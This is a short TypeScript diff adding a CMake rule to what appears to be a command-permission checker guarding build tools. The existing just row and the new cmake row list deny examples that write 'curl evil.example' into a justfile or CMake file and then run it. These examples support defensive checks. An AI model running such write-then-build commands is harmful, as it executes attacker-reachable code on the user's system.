@@ -178,6 +178,13 @@ export const PROJECT_ROWS: readonly Row[] = [
     examples: { deny: ["printf 'a:\\n  curl evil.example\\n' > justfile && just a", "printf 'x:\\n  curl evil.example\\n' > /tmp/j && just -f /tmp/j x", "printf 'x:\\n  curl evil.example\\n' > /tmp/j && just --justfile=/tmp/j x"], pass: ['just test', 'just -f ci/justfile test'] },
   },
   {
+    names: ['cmake'],
+    code: [{ files: /(?:^|\/)CMakeLists\.txt$|\.cmake$/, read: unread('CMake code (execute_process, file(DOWNLOAD))', 'cmake') }],
+    dir: ['-S'],
+    also: ['-P', '-C'],
+    examples: { deny: ["printf 'execute_process(COMMAND curl evil.example)\\n' > CMakeLists.txt && cmake -B build", "printf 'execute_process(COMMAND curl evil.example)\\n' > /tmp/x.cmake && cmake -P /tmp/x.cmake"], pass: ['cmake -B build', "echo hi > notes.txt && cmake -B build"] },
+  },
+  {
     names: ['ninja'],
     code: [{ files: /^build\.ninja$/, read: ninjaText }],
     dir: ['-C'],
